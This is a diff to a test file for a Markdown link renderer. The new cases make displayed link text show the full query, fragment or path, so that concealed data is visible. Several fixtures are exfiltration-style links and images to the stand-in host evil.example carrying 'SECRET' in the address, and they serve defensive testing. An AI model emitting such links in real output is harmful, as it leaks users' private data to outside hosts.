@@ -197,7 +197,7 @@ describe('links', () => {
     [
       'references in the address',
       '[a](https://shop.example/?b=1&amp;c=2)',
-      link('https://shop.example/?b=1&c=2', 'a', 'shop.example'),
+      link('https://shop.example/?b=1&c=2', 'a', 'shop.example/?b=1&c=2'),
     ],
     [
       'an image',
@@ -208,6 +208,46 @@ describe('links', () => {
       'an image inside of a link',
       '[![A cat](https://a.example/1.gif)](https://b.example)',
       link('https://b.example/', 'A cat', 'b.example'),
+    ],
+    [
+      'a query, which can carry data',
+      '[ok](https://evil.example/?d=SECRET)',
+      link('https://evil.example/?d=SECRET', 'ok', 'evil.example/?d=SECRET'),
+    ],
+    [
+      'a query behind the name of its host',
+      '[evil.example](https://evil.example/?d=SECRET)',
+      link('https://evil.example/?d=SECRET', 'evil.example', 'evil.example/?d=SECRET'),
+    ],
+    [
+      'a query behind another one',
+      '[https://evil.example/?d=1](https://evil.example/?d=SECRET)',
+      link('https://evil.example/?d=SECRET', 'https://evil.example/?d=1', 'evil.example/?d=SECRET'),
+    ],
+    [
+      'a query in an image',
+      '![A cat](https://evil.example/1.gif?d=SECRET)',
+      link('https://evil.example/1.gif?d=SECRET', 'A cat', 'evil.example/1.gif?d=SECRET'),
+    ],
+    [
+      'a fragment, which the other page can read',
+      '[ok](https://evil.example/#SECRET)',
+      link('https://evil.example/#SECRET', 'ok', 'evil.example/#SECRET'),
+    ],
+    [
+      'a long path',
+      '[ok](https://evil.example/DE89370400440532013000)',
+      link('https://evil.example/DE89370400440532013000', 'ok', 'evil.example/DE89370400440532013000'),
+    ],
+    [
+      'a very long address',
+      `[ok](https://evil.example/${'b'.repeat(300)})`,
+      link(`https://evil.example/${'b'.repeat(300)}`, 'ok', `evil.example/${'b'.repeat(107)}…`),
+    ],
+    [
+      'an address as text, which shows its query',
+      'https://shop.example/orders?id=1041',
+      link('https://shop.example/orders?id=1041', 'https://shop.example/orders?id=1041'),
     ],
     [
       'hidden characters in the text',
